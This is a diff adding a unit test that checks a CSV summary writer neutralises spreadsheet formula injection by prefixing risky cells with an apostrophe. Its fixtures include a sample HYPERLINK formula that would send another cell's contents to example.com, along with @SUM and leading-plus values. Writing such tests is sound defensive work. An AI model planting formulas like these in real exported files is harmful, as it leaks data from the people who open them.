@@ -167,6 +167,21 @@ describe('summary.csv', () => {
       ['data/c.wav', 'c', 'check failed', '4', 'cmp: no match', '-2', '', 'NaN', '0'],
     ]);
   });
+
+  it("writes a text a spreadsheet would run as a formula with a leading ', and numbers as they are", () => {
+    // The files and the graph come from others: a file name, a sink's id, an error quoting a param.
+    const rows: SummaryRow[] = [
+      { input: '=HYPERLINK("https://example.com/?"&A3,"open").wav', output: '=HYPERLINK("https://example.com/?"&A3,"open")', status: 'ok', ms: 1, error: '', values: [['@SUM(A1)', { sum: -2 }]] },
+      { input: '+1.wav', output: '+1', status: 'failed', ms: 2, error: '-2+3 is not a path', values: [] },
+      { input: 'plain=1.wav', output: 'plain=1', status: 'ok', ms: 3, error: '', values: [] },
+    ];
+    expect(parseCsv(summaryCsv(rows))).toEqual([
+      ['input', 'output', 'status', 'ms', 'error', "'@SUM(A1).sum"],
+      [`'=HYPERLINK("https://example.com/?"&A3,"open").wav`, `'=HYPERLINK("https://example.com/?"&A3,"open")`, 'ok', '1', '', '-2'],
+      ["'+1.wav", "'+1", 'failed', '2', "'-2+3 is not a path", ''],
+      ['plain=1.wav', 'plain=1', 'ok', '3', '', ''],
+    ]);
+  });
 });
 
 describe('batch progress on stderr', () => {
